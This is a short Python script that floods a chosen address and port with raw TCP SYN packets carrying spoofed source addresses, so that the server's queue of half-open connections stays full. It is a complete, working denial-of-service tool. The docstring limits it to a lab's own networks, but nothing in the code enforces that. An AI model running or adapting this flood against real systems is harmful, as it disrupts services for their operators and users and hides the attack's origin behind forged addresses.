#!/usr/bin/python3
"""Connection requests that are never completed, from addresses nobody has: halves.py ADDRESS PORT RATE. Raw sockets, in the lab's own
networks only; the answers go nowhere, so the server's queue of half-open connections stays full."""
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def request(source, target, port):
    """A SYN (RFC 9293 section 3.1) in an IPv4 header; the kernel fills in that header's own checksum."""
    tcp = struct.pack("!HHIIBBHHH", random.randint(1024, 65000), port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16), 0, 64, 6, 0, source, target) + tcp


def main():
    address, port, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    target = ipaddress.IPv4Address(address).packed
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for number in range(1 << 30):
            source = struct.pack("!I", 0xC6336400 | random.randint(100, 250))  # 198.51.100.100 and on: in the network of dns
            out.sendto(request(source, target, port), (address, 0))
            if number == 600:
                print("ready", flush=True)
            time.sleep(1 / rate if number > 600 else 0)


main()
